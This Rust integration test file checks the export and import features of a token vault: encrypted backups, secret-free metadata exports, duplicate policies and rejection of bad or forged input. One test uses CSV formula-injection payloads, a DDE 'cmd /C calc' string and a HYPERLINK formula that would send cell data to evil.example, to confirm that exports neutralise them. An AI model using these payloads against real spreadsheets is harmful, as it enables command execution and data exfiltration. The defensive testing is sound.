//! Export and import through real vaults: an encrypted backup restores an identical inventory,
//! metadata exports hold no secret, duplicates follow the chosen policy, and a bad file changes nothing.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use chrono::{DateTime, Duration, TimeZone, Utc};
use secrecy::{ExposeSecret, SecretString};
use std::path::Path;
use tokenwarden_core::audit_log::EventKind;
use tokenwarden_core::transfer::{self, ExportFormat, ExportOptions, Format, Input, OnDuplicate, ReadOptions};
use tokenwarden_core::{ErrorCode, KdfParams, NewToken, TokenFilter, TokenKind, Vault};
use tokenwarden_providers::ProviderId;

const CHEAP: KdfParams = KdfParams { memory_kib: 8 * 1024, iterations: 1, parallelism: 1 };
/// age's scrypt work factor for tests (the default, ~1 s, is exercised by `make bench`).
const FAST_SCRYPT: u8 = 10;
const PASSPHRASE: &str = "backup passphrase for tests";

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 28, 9, 30, 0).unwrap()
}

fn secret(s: &str) -> SecretString {
    SecretString::from(s.to_owned())
}

fn vault(dir: &Path) -> Vault {
    Vault::create(dir, &secret("vault password"), CHEAP, now()).unwrap()
}

const SECRETS: [&str; 4] = [
    "ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u",
    "glpat-Vd83kLm2Qp9Zx7Tn4Wb1",
    "xoxb-2048-1111-Ab12Cd34Ef56Gh78Ij90",
    "sk_live_51HxQ9zKj2LmN4pQr6StUv8WxYz0",
];

/// A vault with variety: expiries, tags, scopes, an archived and a revoked token, usages, edits.
fn populated(dir: &Path) -> Vault {
    let mut v = vault(dir);
    let mut ids = Vec::new();
    for (i, s) in SECRETS.iter().enumerate() {
        let provider = ["github", "gitlab", "slack", "stripe"][i];
        let mut t = NewToken::new(
            format!("token {i} ({provider})"),
            ProviderId::parse(provider).unwrap(),
            TokenKind::ApiKey,
            secret(s),
        );
        t.expires_at = (i % 2 == 0).then(|| now() + Duration::days(10 * i as i64 + 3));
        t.tags = vec!["ci".to_owned(), format!("team-{i}")];
        t.scopes = vec!["repo".to_owned()];
        t.account = Some(format!("bot-{i}"));
        t.environment = Some("prod".to_owned());
        t.notes = Some("line one\nline two, with \"quotes\"".to_owned());
        t.url = Some(format!("https://example.com/{provider}"));
        t.purpose = Some("deploys".to_owned());
        t.rotation_max_age_days = Some(90);
        ids.push(v.add_token(t, now() - Duration::days(40 - i as i64)).unwrap().id);
    }
    v.add_usage(&ids[0], "ci_secret", "github.com/acme/api: DEPLOY_TOKEN", Some("main branch".into()), now()).unwrap();
    v.add_usage(&ids[0], "env_file", "/srv/api/.env", None, now()).unwrap();
    v.archive_token(&ids[1], now()).unwrap();
    // Revoked the way the app does it (recorded, not by API), so the date and method travel too.
    let api = tokenwarden_core::provider_api::LiveApi::new(Default::default(), std::time::Duration::from_secs(1));
    v.revoke_token(&api, &ids[2], tokenwarden_core::revocation::RevokeHow::Confirmed, false, now()).unwrap();
    assert_eq!(v.token(&ids[2]).unwrap().revoke_method.as_deref(), Some("confirmed"));
    v.reveal_secret(&ids[3], EventKind::Revealed, now()).unwrap();
    v
}

fn backup_options() -> ExportOptions {
    let mut options = ExportOptions::new(ExportFormat::Backup);
    options.passphrase = Some(secret(PASSPHRASE));
    options.work_factor = Some(FAST_SCRYPT);
    options
}

fn import(v: &mut Vault, bytes: &[u8], passphrase: Option<&str>, on_duplicate: OnDuplicate) -> transfer::ImportSummary {
    let options = ReadOptions { passphrase: passphrase.map(secret), ..ReadOptions::default() };
    let batch = transfer::read(&Input { name: "file", bytes }, None, &options).unwrap();
    let plan = v.plan_import("file", batch, on_duplicate).unwrap();
    v.apply_import(plan, now(), &mut |_, _| {}).unwrap()
}

fn everything(v: &Vault) -> Vec<tokenwarden_core::Token> {
    let filter = TokenFilter { include_archived: true, ..TokenFilter::default() };
    let mut tokens: Vec<_> = v.list_tokens(&filter, now()).unwrap().into_iter().map(|s| s.token).collect();
    tokens.sort_by(|a, b| a.id.cmp(&b.id));
    tokens
}

#[test]
fn an_encrypted_backup_restores_an_identical_inventory() {
    let dir = tempfile::tempdir().unwrap();
    let mut source = populated(&dir.path().join("a"));
    let exported = source.export(&backup_options(), now()).unwrap();
    assert_eq!(exported.tokens, 4);
    assert!(exported.bytes.starts_with(b"age-encryption.org/v1"));
    for s in SECRETS {
        assert!(!exported.bytes.windows(s.len()).any(|w| w == s.as_bytes()), "a secret is in the backup in clear");
    }

    let mut restored = vault(&dir.path().join("b"));
    let summary = import(&mut restored, &exported.bytes, Some(PASSPHRASE), OnDuplicate::Skip);
    assert_eq!((summary.created, summary.updated, summary.skipped), (4, 0, 0));
    assert_eq!(summary.format, "backup");

    let (before, after) = (everything(&source), everything(&restored));
    assert_eq!(format!("{before:?}"), format!("{after:?}"), "every field of every token comes back");
    for token in &before {
        let a = source.reveal_secret(&token.id, EventKind::Revealed, now()).unwrap();
        let b = restored.reveal_secret(&token.id, EventKind::Revealed, now()).unwrap();
        assert_eq!(a.expose_secret(), b.expose_secret());
        assert_eq!(
            format!("{:?}", source.usages(&token.id).unwrap()),
            format!("{:?}", restored.usages(&token.id).unwrap())
        );
    }
    // The source's history (up to the export) is in the restored log, in order, re-chained, each
    // event marked as restored history from this backup (its original kind kept in the detail).
    let history = |v: &Vault| -> Vec<(DateTime<Utc>, String, Option<String>, String)> {
        let mut events = v.events(None, 10_000).unwrap();
        events.reverse();
        events.into_iter().map(|e| (e.at, e.kind, e.token_id, e.detail.to_string())).collect()
    };
    let exported_history: Vec<_> = history(&source).into_iter().take_while(|e| e.1 != "exported").collect();
    let mut events = restored.events(None, 10_000).unwrap();
    events.reverse();
    let imported = events.iter().find(|e| e.kind == "imported").unwrap();
    let backup_id = imported.detail["backup_id"].as_str().unwrap().to_owned();
    assert!(uuid::Uuid::parse_str(&backup_id).is_ok(), "{backup_id}");
    let restored_history: Vec<_> = events
        .iter()
        .filter(|e| e.kind == transfer::RESTORED_HISTORY)
        .map(|e| {
            assert_eq!(e.detail["backup_id"], serde_json::json!(backup_id), "{:?}", e.detail);
            (e.at, e.detail["kind"].as_str().unwrap().to_owned(), e.token_id.clone(), e.detail["detail"].to_string())
        })
        .collect();
    assert_eq!(restored_history, exported_history, "the source's events, as restored history");
    let kinds: Vec<&str> = events.iter().map(|e| e.kind.as_str()).collect();
    assert_eq!(kinds.last(), Some(&"revealed"));
    assert!(!kinds.contains(&"created"), "no restored event passes as this vault's own: {kinds:?}");
    restored.verify_log().unwrap();
    restored.check().unwrap();
}

#[test]
fn an_armored_backup_round_trips_and_a_wrong_passphrase_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let mut source = populated(&dir.path().join("a"));
    let mut options = backup_options();
    options.armor = true;
    let exported = source.export(&options, now()).unwrap();
    assert!(exported.bytes.starts_with(b"-----BEGIN AGE ENCRYPTED FILE-----"));

    let mut target = vault(&dir.path().join("b"));
    let wrong = ReadOptions { passphrase: Some(secret("not the passphrase")), ..ReadOptions::default() };
    let err = transfer::read(&Input { name: "b.age", bytes: &exported.bytes }, None, &wrong).err().unwrap();
    assert_eq!(err.code(), ErrorCode::PassphraseNeeded);
    assert!(err.to_string().contains("passphrase is wrong"), "{err}");
    assert!(err.to_string().starts_with("b.age:"), "{err}");

    let truncated = &exported.bytes[..exported.bytes.len() / 2];
    let right = ReadOptions { passphrase: Some(secret(PASSPHRASE)), ..ReadOptions::default() };
    let err = transfer::read(&Input { name: "b.age", bytes: truncated }, None, &right).err().unwrap();
    assert_eq!(err.code(), ErrorCode::InvalidInput, "{err}");
    assert!(everything(&target).is_empty());

    let summary = import(&mut target, &exported.bytes, Some(PASSPHRASE), OnDuplicate::Skip);
    assert_eq!(summary.created, 4);
}

#[test]
fn metadata_exports_hold_no_secret_and_cannot_be_restored() {
    let dir = tempfile::tempdir().unwrap();
    let mut source = populated(&dir.path().join("a"));
    for format in [ExportFormat::Json, ExportFormat::Csv] {
        let exported = source.export(&ExportOptions::new(format), now()).unwrap();
        assert!(!exported.with_secrets);
        let text = String::from_utf8(exported.bytes.to_vec()).unwrap();
        for s in SECRETS {
            assert!(!text.contains(s), "{format} export holds a secret");
        }
        assert!(text.contains("token 0 (github)") && text.contains("ghp_…"), "{format}: {text}");
    }
    let json = source.export(&ExportOptions::new(ExportFormat::Json), now()).unwrap();
    let err = transfer::read(&Input { name: "meta.json", bytes: &json.bytes }, None, &ReadOptions::default())
        .err()
        .unwrap()
        .to_string();
    assert!(err.contains("metadata-only export"), "{err}");
}

#[test]
fn plain_exports_with_secrets_need_asking_and_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let mut source = populated(&dir.path().join("a"));
    let err = source.export(&ExportOptions::new(ExportFormat::KeepassxcXml), now()).err().unwrap();
    assert!(err.to_string().contains("--include-secrets"), "{err}");

    let mut options = ExportOptions::new(ExportFormat::Json);
    options.include_secrets = true;
    let exported = source.export(&options, now()).unwrap();
    assert!(exported.with_secrets);
    let mut target = vault(&dir.path().join("b"));
    assert_eq!(import(&mut target, &exported.bytes, None, OnDuplicate::Skip).created, 4);
    assert_eq!(format!("{:?}", everything(&source)), format!("{:?}", everything(&target)));
    let logged = source.events(None, 1).unwrap();
    assert_eq!(logged[0].kind, "exported");
    assert_eq!(logged[0].detail["secrets"], serde_json::json!(true));
}

#[test]
fn duplicates_are_skipped_updated_or_imported_as_asked() {
    let dir = tempfile::tempdir().unwrap();
    let mut source = populated(&dir.path().join("a"));
    let mut options = ExportOptions::new(ExportFormat::Json);
    options.include_secrets = true;
    let bytes = source.export(&options, now()).unwrap().bytes;

    // Into the same vault: every row is already there.
    let summary = import(&mut source, &bytes, None, OnDuplicate::Skip);
    assert_eq!((summary.created, summary.skipped), (0, 4));
    assert_eq!(everything(&source).len(), 4);

    let summary = import(&mut source, &bytes, None, OnDuplicate::Update);
    assert_eq!((summary.created, summary.updated), (0, 4));

    let summary = import(&mut source, &bytes, None, OnDuplicate::Import);
    assert_eq!(summary.created, 4);
    let all = everything(&source);
    assert_eq!(all.len(), 8, "imported anyway, under new ids");
    let first = source.find_by_secret(&secret(SECRETS[0])).unwrap();
    assert_eq!(first.len(), 2);
}

/// A large file's plan reads every fingerprint once instead of asking per row; a small file's asks
/// per row. Both must name the same earlier token as the duplicate, the oldest of those sharing a secret.
#[test]
fn a_large_and_a_small_file_find_the_same_duplicates() {
    let dir = tempfile::tempdir().unwrap();
    let mut v = vault(&dir.path().join("a"));
    let new =
        |name: &str, s: &str| NewToken::new(name, ProviderId::parse("github").unwrap(), TokenKind::ApiKey, secret(s));
    let first = v.add_token(new("first holder", SECRETS[0]), now()).unwrap().id;
    v.add_token(new("second holder", SECRETS[0]), now()).unwrap();
    let other = v.add_token(new("other", SECRETS[1]), now()).unwrap().id;
    for filler in [0, 100] {
        let mut csv = String::from("name,token,provider\n");
        for i in 0..filler {
            csv.push_str(&format!("filler {i},tw_filler_{i:05}_abcdefghijkl,generic\n"));
        }
        csv.push_str(&format!(
            "again 0,{},github\nagain 1,{},gitlab\nnew one,{},slack\nnew again,{},slack\n",
            SECRETS[0], SECRETS[1], SECRETS[2], SECRETS[2]
        ));
        let batch =
            transfer::read(&Input { name: "f.csv", bytes: csv.as_bytes() }, None, &ReadOptions::default()).unwrap();
        let plan = v.plan_import("f.csv", batch, OnDuplicate::Skip).unwrap();
        let tail: Vec<_> = plan.rows[filler..].iter().map(|r| (r.action, r.duplicate_of.clone())).collect();
        let line = format!("line {}", filler + 4);
        assert_eq!(
            tail,
            vec![
                (transfer::PlannedAction::Skip, Some(first.clone())),
                (transfer::PlannedAction::Skip, Some(other.clone())),
                (transfer::PlannedAction::Create, None),
                (transfer::PlannedAction::Skip, Some(line)),
            ],
            "with {filler} filler rows"
        );
    }
}

#[test]
fn a_row_that_breaks_a_rule_names_file_record_and_field_and_changes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let v = vault(&dir.path().join("a"));
    let file = r#"{"format":"tokenwarden","version":1,"tokens":[
        {"name":"fine","secret":"ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u"},
        {"name":"bad url","secret":"glpat-Vd83kLm2Qp9Zx7Tn4Wb1","url":"ftp://nope"}]}"#;
    let batch =
        transfer::read(&Input { name: "in.json", bytes: file.as_bytes() }, None, &ReadOptions::default()).unwrap();
    assert_eq!(batch.format, Format::Json);
    let err = v.plan_import("in.json", batch, OnDuplicate::Skip).err().unwrap();
    let message = err.to_string();
    assert_eq!(err.code(), ErrorCode::InvalidInput);
    assert!(message.starts_with("in.json: token 2 ('bad url'): url:"), "{message}");
    assert!(!message.contains("glpat-"), "{message}");
    assert!(everything(&v).is_empty());
}

#[test]
fn records_are_checked_without_a_vault_and_a_checked_import_plans_as_a_whole_one_does() {
    let file = r#"{"format":"tokenwarden","version":1,"tokens":[
        {"name":"fine","secret":"ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u"},
        {"name":"bad url","secret":"glpat-Vd83kLm2Qp9Zx7Tn4Wb1","url":"ftp://nope"}]}"#;
    let read = |text: &str| {
        transfer::read(&Input { name: "in.json", bytes: text.as_bytes() }, None, &ReadOptions::default()).unwrap()
    };
    // No vault exists anywhere in this half.
    let err = transfer::check_import("in.json", read(file)).err().unwrap();
    assert_eq!(err.code(), ErrorCode::InvalidInput);
    assert!(err.to_string().starts_with("in.json: token 2 ('bad url'): url:"), "{err}");

    let dir = tempfile::tempdir().unwrap();
    let mut v = populated(&dir.path().join("a"));
    let good = format!(
        r#"{{"format":"tokenwarden","version":1,"tokens":[
        {{"name":"held already","secret":"{}"}},
        {{"name":"new","secret":"sk_live_different_0000000000000000"}},
        {{"name":"new again","secret":"sk_live_different_0000000000000000"}}]}}"#,
        SECRETS[0]
    );
    let whole = v.plan_import("in.json", read(&good), OnDuplicate::Skip).unwrap();
    let checked = transfer::check_import("in.json", read(&good)).unwrap();
    let planned = v.plan_checked(checked, OnDuplicate::Skip).unwrap();
    let actions = |plan: &transfer::ImportPlan| -> Vec<_> {
        plan.rows.iter().map(|r| (r.name.clone(), r.action, r.duplicate_of.clone(), r.provider.clone())).collect()
    };
    assert_eq!(actions(&planned), actions(&whole));
    assert_eq!(
        planned.rows.iter().map(|r| r.action).collect::<Vec<_>>(),
        [transfer::PlannedAction::Skip, transfer::PlannedAction::Create, transfer::PlannedAction::Skip]
    );
    assert_eq!(planned.rows[2].duplicate_of.as_deref(), Some("token 2 ('new')"), "{:?}", planned.rows[2]);
    let before = everything(&v).len();
    let summary = v.apply_import(planned, now(), &mut |_, _| {}).unwrap();
    assert_eq!((summary.created, summary.skipped), (1, 2));
    assert_eq!(everything(&v).len(), before + 1);
}

#[test]
fn a_newer_export_version_asks_for_an_update() {
    let file = br#"{"format":"tokenwarden","version":99,"tokens":[]}"#;
    let err = transfer::read(&Input { name: "x.json", bytes: file }, None, &ReadOptions::default()).err().unwrap();
    assert!(err.to_string().contains("update Tokenwarden"), "{err}");
}

/// Reads and plans `file` as an import into `v`; the error, if either step refuses it.
fn refused(v: &Vault, name: &str, file: &str) -> tokenwarden_core::Error {
    let input = Input { name, bytes: file.as_bytes() };
    match transfer::read(&input, None, &ReadOptions::default()) {
        Err(err) => err,
        Ok(batch) => v.plan_import(name, batch, OnDuplicate::Skip).err().expect("the import is refused"),
    }
}

#[test]
fn a_json_import_with_a_huge_rotation_age_is_an_import_error_not_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    let v = vault(&dir.path().join("a"));
    let file = r#"{"format":"tokenwarden","version":1,"tokens":[
        {"name":"hostile","secret":"ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u","rotation_max_age_days":4000000000}]}"#;
    let err = refused(&v, "in.json", file);
    assert_eq!(err.code(), ErrorCode::InvalidInput);
    assert!(err.to_string().contains("rotation_max_age_days"), "{err}");
    assert!(everything(&v).is_empty());
}

#[test]
fn a_json_import_with_dates_past_the_year_9999_is_an_import_error() {
    let dir = tempfile::tempdir().unwrap();
    let v = vault(&dir.path().join("a"));
    for field in ["expires_at", "created_at", "last_used_at"] {
        let file = format!(
            r#"{{"format":"tokenwarden","version":1,"tokens":[{{"id":"0190f5b2-7c1e-7000-8000-000000000001",
            "name":"far","secret":"ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u","{field}":"+200000-01-01T00:00:00Z"}}]}}"#
        );
        let err = refused(&v, "in.json", &file);
        assert_eq!(err.code(), ErrorCode::InvalidInput, "{field}: {err}");
        assert!(err.to_string().contains(field), "{err}");
    }
    assert!(everything(&v).is_empty());
}

#[test]
fn a_csv_import_with_an_expiry_past_the_year_9999_is_an_import_error() {
    let dir = tempfile::tempdir().unwrap();
    let v = vault(&dir.path().join("a"));
    // Unix seconds, as some exports write dates: 999999999999 is in the year 33658.
    let file = "name,secret,expires\nfar,ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u,999999999999\n";
    let err = refused(&v, "in.csv", file);
    assert_eq!(err.code(), ErrorCode::InvalidInput);
    assert!(err.to_string().starts_with("in.csv: "), "{err}");
    assert!(err.to_string().contains("expires_at"), "{err}");
    assert!(everything(&v).is_empty());
}

#[test]
fn a_plain_json_file_carrying_events_imports_no_history() {
    let dir = tempfile::tempdir().unwrap();
    let mut v = vault(&dir.path().join("a"));
    let before = v.events(None, 10_000).unwrap().len();
    let file = r#"{"format":"tokenwarden","version":1,"tokens":[
        {"name":"plain","secret":"ghp_R8fQ2mX7vL1pZ9kT4wY6nB3cD5hJ0sA2eG7u"}],
        "events":[{"seq":1,"at":"2020-01-01T00:00:00Z","kind":"revoked","token_id":null,"detail":{"forged":true}},
                  {"seq":2,"at":"2020-01-02T00:00:00Z","kind":"rotated","token_id":null,"detail":{}}]}"#;
    let summary = import(&mut v, file.as_bytes(), None, OnDuplicate::Skip);
    assert_eq!((summary.created, summary.events), (1, 0));
    let events = v.events(None, 10_000).unwrap();
    // Only this vault's own record of the import: the token's creation is part of "imported".
    assert_eq!(events.len(), before + 1, "{events:?}");
    assert_eq!(events[0].kind, "imported");
    assert!(events.iter().all(|e| e.kind != "revoked" && e.kind != "rotated" && e.kind != transfer::RESTORED_HISTORY));
    assert!(!serde_json::to_string(&events).unwrap().contains("forged"));
    v.verify_log().unwrap();
}

#[test]
fn csv_exports_neutralize_formulas_in_every_cell_and_round_trip_secrets_that_start_like_one() {
    let dir = tempfile::tempdir().unwrap();
    let mut source = vault(&dir.path().join("a"));
    // Secrets and names a spreadsheet would run as formulas, and ones that already start with a quote.
    let cases = [
        ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/\"&A1)xyzxyz"),
        ("+plus", "+1+1secretsecretsecret"),
        ("-dash", "-tokenStartingWithDash0123456789"),
        ("@at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("'=quoted", "'=already-quoted-secret-0123456789"),
        ("''-twice", "''-twice-quoted-secret-0123456789"),
        ("'plain", "'plain-quoted-secret-0123456789"),
    ];
    for (name, value) in cases {
        let mut t = NewToken::new(name, ProviderId::generic(), TokenKind::ApiKey, secret(value));
        t.notes = Some(format!("{name} note"));
        t.account = Some(format!("{name}@example.com"));
        source.add_token(t, now()).unwrap();
    }
    let mut options = ExportOptions::new(ExportFormat::Csv);
    options.include_secrets = true;
    let exported = source.export(&options, now()).unwrap();

    let mut reader = csv::Reader::from_reader(&exported.bytes[..]);
    let headers = reader.headers().unwrap().clone();
    assert_eq!(&headers[1], "secret");
    let mut rows = 0;
    for row in reader.records() {
        let row = row.unwrap();
        rows += 1;
        for (header, cell) in headers.iter().zip(row.iter()) {
            let formula = cell.trim_start_matches('\'').starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!formula || cell.starts_with('\''), "{header} cell {cell:?} would run as a formula");
        }
    }
    assert_eq!(rows, cases.len());

    let mut target = vault(&dir.path().join("b"));
    assert_eq!(import(&mut target, &exported.bytes, None, OnDuplicate::Skip).created, cases.len());
    for (name, value) in cases {
        let found = target.find_by_secret(&secret(value)).unwrap();
        assert_eq!(found.len(), 1, "secret of {name:?} came back unchanged");
        let token = target.token(&found[0]).unwrap();
        assert_eq!(token.name, name);
        assert_eq!(token.notes.as_deref(), Some(format!("{name} note").as_str()));
        assert_eq!(token.account.as_deref(), Some(format!("{name}@example.com").as_str()));
    }
}

#[test]
fn a_csv_import_of_many_rows_stores_each_row_whole_with_its_own_secret() {
    // More rows than two INSERT statements take (256 rows each), and not a multiple of it: the rows
    // are made on a second thread while the first writes, slice by slice, the last one short.
    const ROWS: usize = 700;
    let dir = tempfile::tempdir().unwrap();
    let mut v = vault(&dir.path().join("a"));
    let providers = ["github", "gitlab", "slack", "stripe", "openai"];
    let mut csv = String::from("name,token,provider,expires,tags,account\n");
    for i in 0..ROWS {
        let expires = if i % 4 == 0 { String::new() } else { format!("2027-{:02}-{:02}", 1 + i % 12, 1 + i % 28) };
        csv.push_str(&format!(
            "row {i:03},tw_many_{i:04}_Zq8Lr3Vx,{},{expires},t{} shared,owner-{i}\n",
            providers[i % 5],
            i % 7
        ));
    }
    let summary = import(&mut v, csv.as_bytes(), None, OnDuplicate::Skip);
    assert_eq!(summary.created, ROWS);
    let tokens = everything(&v);
    assert_eq!(tokens.len(), ROWS);
    for t in &tokens {
        let i: usize = t.name.strip_prefix("row ").unwrap().parse().unwrap();
        assert_eq!(t.provider.as_str(), providers[i % 5], "{}", t.name);
        assert_eq!(t.account.as_deref(), Some(format!("owner-{i}").as_str()), "{}", t.name);
        assert_eq!(t.tags, vec![format!("t{}", i % 7), "shared".to_owned()], "{}", t.name);
        let expires = t.expires_at.map(|e| e.format("%Y-%m-%d").to_string());
        let wanted = (i % 4 != 0).then(|| format!("2027-{:02}-{:02}", 1 + i % 12, 1 + i % 28));
        assert_eq!(expires, wanted, "{}", t.name);
        assert_eq!((t.created_at, t.updated_at), (now(), now()), "{}", t.name);
        let revealed = v.reveal_secret(&t.id, EventKind::Revealed, now()).unwrap();
        assert_eq!(revealed.expose_secret(), format!("tw_many_{i:04}_Zq8Lr3Vx"), "{}", t.name);
    }
    // Each row's fingerprint went with its own secret: the same file again is all duplicates.
    let again = import(&mut v, csv.as_bytes(), None, OnDuplicate::Skip);
    assert_eq!((again.created, again.skipped), (0, ROWS));
}
